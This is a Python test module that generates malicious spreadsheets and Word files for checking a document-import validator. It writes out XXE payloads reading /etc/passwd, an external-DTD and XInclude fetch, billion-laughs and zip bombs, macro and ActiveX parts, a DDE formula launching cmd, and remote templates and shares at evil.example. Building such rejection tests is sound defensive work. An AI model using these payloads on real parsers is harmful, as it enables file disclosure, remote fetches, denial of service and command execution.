"""Sheets and letters with programs, with addresses outside, with XML that unfolds or reads files of the machine."""

from __future__ import annotations

import io
import zipfile

from tests.documents.sheets import changed
from tests.domain.evidence.samples import letter, relationships, sheet, zipped
from tests.stress.corpus.archives import MB, PART, zeros
from tests.stress.corpus.bad import Bad, plain

XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>'
OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x7z.dtd"> %x;]>'
    b'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></x>'
)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def laughs(levels: int = 12) -> bytes:
    """A billion laughs: entities of entities."""
    told = b'<!ENTITY l0 "x7z">'
    for level in range(1, levels):
        told += b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10)
    return b'<?xml version="1.0"?><!DOCTYPE x [%s]><x>&l%d;</x>' % (told, levels - 1)


def quadratic() -> bytes:
    """One long entity, many times."""
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "%s">]><x>%s</x>' % (b"x" * 50_000, b"&a;" * 50_000)


def deep(levels: int = 200_000) -> bytes:
    """Elements in elements."""
    return b"<a>" * levels + b"</a>" * levels


def cells(*lines: str, dimension: str = "A1:C3") -> bytes:
    """The XML of a worksheet with these rows."""
    return (
        f'<worksheet xmlns="{MAIN}"><dimension ref="{dimension}"/><sheetData>{"".join(lines)}</sheetData></worksheet>'
    ).encode()


def cell(place: str, words: str) -> str:
    """A cell with a text of its own."""
    return f'<c r="{place}" t="inlineStr"><is><t>{words}</t></is></c>'


def many_rows(count: int) -> bytes:
    """A sheet of so many rows."""
    return cells(*(f'<row r="{n}">{cell(f"A{n}", "x")}</row>' for n in range(1, count + 1)))


def typed(kind: str, part: str) -> bytes:
    """An office file of another kind than the two that are taken in."""
    media = f'<Types><Override PartName="/{part}" ContentType="application/vnd.{kind}"/></Types>'
    return zipped({"[Content_Types].xml": media.encode(), part: b"<x/>"})


def open_document(kind: str) -> bytes:
    """LibreOffice's own."""
    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(), "Basic/x.xml": b"<x/>"})


def linked(kind: str, target: str) -> bytes:
    """A letter that takes something from elsewhere when it is opened."""
    return letter({"word/_rels/document.xml.rels": relationships(kind, target)})


def long_relationships() -> bytes:
    """A letter whose list of relationships alone unfolds to 90 MB."""
    noise = bytes(range(33, 60)) * 40
    return letter({"word/_rels/document.xml.rels": b"<Relationships>" + (noise + b" " * 120_000) * 770})


OFFICES = (
    Bad("a sheet with macros", "rekap.xlsm", lambda: sheet({"xl/vbaProject.bin": OLD})),
    Bad("macros by another name", "rekap.xlsx", lambda: sheet(main="sheet.macroEnabled")),
    Bad(
        "a letter with macros",
        "surat.docm",
        lambda: letter({"word/vbaProject.bin": OLD, "word/vbaData.xml": b"x"}),
    ),
    Bad("Excel 4 macros", "rekap.xlsx", lambda: sheet({"xl/macrosheets/sheet1.xml": b"<x/>"})),
    Bad("an ActiveX control", "rekap.xlsx", lambda: sheet({"xl/activeX/activeX1.bin": b"x"})),
    Bad("an embedded program", "surat.docx", lambda: letter({"word/embeddings/oleObject1.bin": OLD})),
    Bad(
        "a template from elsewhere",
        "surat.docx",
        lambda: linked("attachedTemplate", "https://evil.example/x.dotm"),
    ),
    Bad("a picture from elsewhere", "surat.docx", lambda: linked("image", "http://127.0.0.1:9/x7z.png")),
    Bad("a share of another computer", "surat.docx", lambda: linked("oleObject", "\\\\evil.example\\x")),
    Bad("a frame from elsewhere", "surat.docx", lambda: linked("frame", "mhtml:https://evil.example/x")),
    Bad("relationships of 90 MB", "surat.docx", long_relationships),
    Bad(
        "a list of parts of 90 MB",
        "rekap.xlsx",
        lambda: changed(sheet(), **{"[Content_Types].xml": zeros(90)}),
    ),
    Bad(
        "a letter that reads a file",
        "surat.docx",
        lambda: changed(letter(), **{"word/document.xml": XXE}),
        True,
    ),
    Bad(
        "a sheet that reads a file", "rekap.xlsx", lambda: changed(sheet(), **{"xl/workbook.xml": XXE}), True
    ),
    Bad(
        "a sheet that asks outside",
        "rekap.xlsx",
        lambda: changed(sheet(), **{"xl/workbook.xml": OUTSIDE}),
        True,
    ),
    Bad("a billion laughs", "rekap.xlsx", lambda: sheet({"xl/sharedStrings.xml": laughs()}), True),
    Bad("quadratic laughs", "rekap.xlsx", lambda: sheet({"xl/sharedStrings.xml": quadratic()}), True),
    Bad(
        "a formula that starts a program",
        "rekap.xlsx",
        lambda: sheet({PART: cells("<row><c><f>cmd|'/c'!A1</f></c></row>")}),
        True,
    ),
    Bad("a sheet of Excel 97", "rekap.xls", plain(OLD)),
    Bad("a sheet that says it is a letter", "surat.docx", sheet, True),
    Bad("a sheet that says it is a paper", "surat.pdf", sheet, True),
    Bad(
        "a binary sheet",
        "rekap.xlsb",
        lambda: typed("ms-excel.sheet.binary.macroEnabled.main", "xl/workbook.bin"),
    ),
    Bad("slides", "paparan.pptx", lambda: typed("openxmlformats-officedocument.presentationml", "ppt/p.xml")),
    Bad("a sheet of LibreOffice", "rekap.ods", lambda: open_document("spreadsheet")),
    Bad("a letter of LibreOffice", "surat.odt", lambda: open_document("text")),
    Bad("a locked sheet", "rekap.xlsx", plain(OLD + "EncryptedPackage".encode("utf-16-le"))),
    Bad("a rich text", "surat.rtf", plain(b"{\\rtf1{\\object\\objocx}}")),
)


def disguised_templates(template: bytes) -> list[Bad]:
    """What an import's own template becomes in bad hands: it bears our marks, and does not mean well."""
    with zipfile.ZipFile(io.BytesIO(template)) as book:
        whole = book.read(PART)
    formula = whole.replace(
        b"</sheetData>", b'<row r="2"><c r="A2"><f>WEBSERVICE("http://x7z")</f><v>1</v></c></row></sheetData>'
    )
    texts = (
        "=x7z()",
        "+x7z|x!A1",
        "&lt;x7z&gt;",
        "x" * 40_000,
        "&#x202E;x7z",
        "9" * 400,
        "1e999",
        "\u0301" * 3_000,
    )
    line = "".join(cell(f"{chr(65 + n)}2", words) for n, words in enumerate(texts))
    typed = whole.replace(b"</sheetData>", f'<row r="2">{line}</row></sheetData>'.encode())
    parts: dict[str, bytes] = {
        "reads a file": XXE,
        "asks outside": OUTSIDE,
        "a billion laughs": laughs(),
        "quadratic laughs": quadratic(),
        "elements in elements": deep(),
        "a million rows": many_rows(400_000),
        "a last row far away": cells(
            f'<row r="1048576">{cell("A1048576", "x")}</row>', dimension="A1:A1048576"
        ),
        "a last column far away": cells(f'<row r="1">{cell("XFD1", "x")}</row>', dimension="A1:XFD1"),
        "a range beyond all sheets": cells(dimension="A1:ZZZZZZ99999999999"),
        "rows without a number": cells(*["<row><c><v>1</v></c></row>"] * 5_000),
        "a formula": formula,
        "bad words": typed,
        "nothing": b"",
        "no XML": b"\xff\xfe\x00x7z" * 50,
        "a bomb": zeros(120),
        "a heavy sheet": b"<x>" + b"<row/>" * (7 * MB),
    }
    made = [
        Bad(
            f"our template: {what}",
            "isian.xlsx",
            lambda content=content: changed(template, **{PART: content}),
        )  # type: ignore[misc]
        for what, content in parts.items()
    ]
    shared = f'<sst xmlns="{MAIN}" count="4294967295" uniqueCount="4294967295"></sst>'.encode()
    return [
        *made,
        Bad(
            "our template: countless texts",
            "isian.xlsx",
            lambda: changed(template, **{"xl/sharedStrings.xml": shared}),
        ),
        Bad(
            "our template with macros", "isian.xlsx", lambda: changed(template, **{"xl/vbaProject.bin": OLD})
        ),
        Bad("our template cut off", "isian.xlsx", lambda: template[: len(template) // 2]),
        Bad(
            "our template without its pages",
            "isian.xlsx",
            lambda: changed(template, **{"xl/workbook.xml": None}),
        ),
    ]
